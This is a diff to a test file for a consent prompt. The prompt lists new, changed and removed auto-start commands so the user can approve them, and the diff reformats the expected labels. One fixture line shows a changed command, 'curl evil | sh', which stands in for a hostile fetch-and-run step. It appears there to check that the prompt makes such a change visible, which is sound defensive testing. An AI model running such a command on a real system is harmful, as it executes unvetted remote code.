@@ -37,11 +37,11 @@ describe('the question before anything starts by itself', () => {
     );
     assert.equal(message, 'The commands that start with “shop” have changed. Allow them?');
     assert.deepEqual(detail.split('\n'), [
-      'New: NEW:  run new',
-      'Changed: API:  curl evil | sh',
-      '   before: API:  run api',
-      'Gone: DB:  run db',
-      'As before: UI:  run ui',
+      'New · NEW:  run new',
+      'Changed · API:  curl evil | sh',
+      '      before:  run api',
+      'Gone · DB:  run db',
+      'As before · UI:  run ui',
     ]);
   });
 
@@ -75,6 +75,6 @@ describe('the document with the whole list', () => {
   it('has the changes first', () => {
     const record = { answer: 'allowed', hash: 'old', tasks: [task('api')] } as const;
     const text = consentDocument(setOf(task('api'), task('ui')), record, shop);
-    assert.ok(text.indexOf('New: UI:  run ui') < text.indexOf('## All commands'));
+    assert.ok(text.indexOf('New · UI:  run ui') < text.indexOf('## All commands'));
   });
 });
